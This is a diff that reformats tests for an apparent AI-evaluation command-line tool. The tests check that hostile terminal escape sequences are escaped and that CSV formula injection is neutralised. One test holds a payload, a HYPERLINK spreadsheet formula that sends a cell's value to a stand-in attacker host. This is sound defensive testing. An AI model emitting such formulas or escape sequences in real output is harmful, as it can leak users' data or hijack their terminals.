@@ -124,7 +124,11 @@ describe.skipIf(!hasScript)('on a colour terminal (a pseudo-terminal through scr
   const HOSTILE_SEQUENCE = /\u001b\]|\u001b\[2J|\u001b\[H|\u009b|\u202e|\u0007|\u0000/;
 
   it('eval and report: our colours are raw, every hostile sequence is escaped', async () => {
-    for (const args of [['eval', 'task.yaml'], ['report', 'run.json'], ['compare', 'run.json', 'run.json']]) {
+    for (const args of [
+      ['eval', 'task.yaml'],
+      ['report', 'run.json'],
+      ['compare', 'run.json', 'run.json'],
+    ]) {
       const res = await onTty(args);
       expect(res.code, args.join(' ')).toBe(0);
       expect(res.stdout).toMatch(/\u001b\[1mResults|\u001b\[1mCompared/); // bold headings: colours are on
@@ -135,7 +139,10 @@ describe.skipIf(!hasScript)('on a colour terminal (a pseudo-terminal through scr
   it('label asks on the terminal, and escapes what it shows', async () => {
     await writeFile(join(dir, 'fresh.yaml'), TASK); // the labels written by the test above are not in it
     // Typed once the question is on the screen, as a person would (input sent earlier is echoed, then lost).
-    const child = spawn('script', ['-qec', ptyCommand(200, 50, ['label', 'fresh.yaml', '--run', 'run.json']), '/dev/null'], { cwd: dir, env: { PATH: process.env.PATH ?? '', ...env(), TERM: 'xterm-256color' } });
+    const child = spawn('script', ['-qec', ptyCommand(200, 50, ['label', 'fresh.yaml', '--run', 'run.json']), '/dev/null'], {
+      cwd: dir,
+      env: { PATH: process.env.PATH ?? '', ...env(), TERM: 'xterm-256color' },
+    });
     let stdout = '';
     child.stdout.on('data', (d) => {
       stdout += d;
@@ -167,7 +174,9 @@ describe('CSV injection (OWASP)', () => {
   it('a model output that is a formula is neutralised in the report', async () => {
     const injection = await startWireServer({ defaultReply: '=HYPERLINK("http://evil.example/?"&A1,"click")' });
     try {
-      const d = await workdir({ 'task.yaml': 'name: inj\nprompt: "Say {{w}}"\nproviders: [openai:gpt-4o-mini]\nexamples: [{ vars: { w: a } }]\nchecks: [{ type: json }]\n' });
+      const d = await workdir({
+        'task.yaml': 'name: inj\nprompt: "Say {{w}}"\nproviders: [openai:gpt-4o-mini]\nexamples: [{ vars: { w: a } }]\nchecks: [{ type: json }]\n',
+      });
       const res = await runCli(['eval', 'task.yaml', '-o', 'r.csv'], { cwd: d, env: { OPENAI_BASE_URL: injection.openaiBaseUrl, OPENAI_API_KEY: 'k' } });
       expect(res.code).toBe(0);
       const text = await readFile(join(d, 'r.csv'), 'utf8');
